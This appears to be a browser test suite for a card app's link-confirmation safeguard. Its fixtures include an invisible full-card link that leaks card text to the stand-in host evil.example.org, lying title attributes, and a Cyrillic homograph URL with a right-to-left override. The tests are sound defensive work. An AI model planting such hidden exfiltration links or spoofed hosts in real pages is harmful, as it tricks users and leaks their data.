import { expect, onTestFinished, test } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { forgetHost } from '../../../../src/renderer/card/links/known-hosts.ts';
import { preferences } from '../../../../src/renderer/preferences.ts';
import { showCard } from '../show-card.tsx';

const HOST = 'evil.example.org';
const LEAK = `https://${HOST}/?leak=the%20front%20text`;
/** Over the whole card, unseen, and with a title that lies. */
const COVER = `the front text <a href="${LEAK}" style="position:absolute;inset:0;opacity:0">
  <span title="https://doi.org/"><b title="safe">cover</b></span></a>`;
const question = page.getByRole('dialog', { name: 'Open this link?' });
const openIt = question.getByRole('button', { name: 'Open in the browser' });
const stay = question.getByRole('button', { name: 'Stay here' });

async function cover(html = COVER) {
  onTestFinished(() => forgetHost(HOST));
  const card = await showCard(html);
  return { card, link: card.document.querySelector('a') as HTMLAnchorElement };
}

test('[SAFE-15] a click on a hidden link asks, with its address and the text that it carries', async () => {
  const { card } = await cover();
  await userEvent.click(card.frame);
  await expect.element(question).toHaveTextContent(`${LEAK}The address carries text`);
  await expect.element(question.getByRole('note')).toHaveTextContent('“the front text”');
  await expect.element(stay).toHaveFocus();
  await userEvent.keyboard('{Enter}');
  await expect.element(question).not.toBeInTheDocument();
  expect(card.opened).toEqual([]);
});

test('[SAFE-15] nothing in a link has a title but the link, which says where it leads', async () => {
  const { card, link } = await cover();
  expect([...card.root.querySelectorAll('[title]')]).toEqual([link]);
  expect(link.title).toBe(LEAK);
});

test('[SAFE-15] Enter, the middle button and keys held while clicking ask too', async () => {
  const { card, link } = await cover();
  const { MouseEvent } = card.document.defaultView as unknown as typeof globalThis;
  const ways = [
    () => {
      link.focus();
      return userEvent.keyboard('{Enter}');
    },
    ...[{ ctrlKey: true }, { shiftKey: true }, { altKey: true }, { metaKey: true }].map(
      (keys) => () =>
        link.dispatchEvent(new MouseEvent('click', { ...keys, bubbles: true, cancelable: true })),
    ),
    () =>
      link.dispatchEvent(
        new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true }),
      ),
  ];
  for (const way of ways) {
    await way();
    await stay.click();
    await expect.element(question).not.toBeInTheDocument();
  }
  expect(card.opened).toEqual([]);
});

test('[SAFE-15] neither the browser’s menu nor dragging takes a link out, and text keeps both', async () => {
  const { card, link } = await cover();
  const { Event: FrameEvent } = card.document.defaultView as unknown as typeof globalThis;
  const prevented = (target: Element, type: string) =>
    !target.dispatchEvent(new FrameEvent(type, { bubbles: true, cancelable: true }));
  for (const type of ['contextmenu', 'dragstart']) {
    expect([type, prevented(link.querySelector('b') as Element, type)]).toEqual([type, true]);
    expect([type, prevented(card.root, type)]).toEqual([type, false]);
  }
});

test('[SAFE-15] a double click does not answer the question', async () => {
  const { card, link } = await cover();
  link.click();
  await expect.element(openIt).toBeVisible();
  const button = openIt.element() as HTMLElement;
  button.dispatchEvent(new MouseEvent('click', { detail: 2, bubbles: true }));
  expect(card.opened).toEqual([]);
  await openIt.click();
  expect(card.opened).toEqual([LEAK]);
});

test('[SAFE-15] asked once for a host, but again before text of a card goes to it', async () => {
  const { card, link } = await cover(`the front text <a href="https://${HOST}/a">a</a>`);
  link.click();
  await openIt.click();
  link.click();
  await expect.poll(() => card.opened).toHaveLength(2);
  await card.change({ html: COVER });
  card.document.querySelector('a')?.click();
  await expect.element(question.getByRole('note')).toBeVisible();
  await openIt.click();
  await card.change({ html: `<a href="https://${HOST}:8443/">other port</a>` });
  card.document.querySelector('a')?.click();
  await expect.element(question).toHaveTextContent(`${HOST}:8443`);
  expect(card.opened).toHaveLength(3);
  expect(preferences().linkHosts).toEqual([]);
});

test('[SAFE-15] a yes is remembered on this device where asked to, and forgotten again', async () => {
  const { card, link } = await cover();
  link.click();
  await question.getByRole('checkbox').click();
  await openIt.click();
  expect(preferences().linkHosts).toEqual([{ host: HOST, withWords: true }]);
  link.click();
  await expect.poll(() => card.opened).toHaveLength(2);
  forgetHost(HOST);
  link.click();
  await expect.element(question).toBeVisible();
});

test('[SAFE-15] a host that looks like another is shown in ASCII', async () => {
  const { link } = await cover('<a href="https://\u0435xample.org/\u202Egpj">x</a>');
  link.click();
  await expect.element(question).toHaveTextContent('https://xn--xample-2of.org/%E2%80%AEgpj');
  await expect.element(question).toHaveTextContent('can look like others');
});
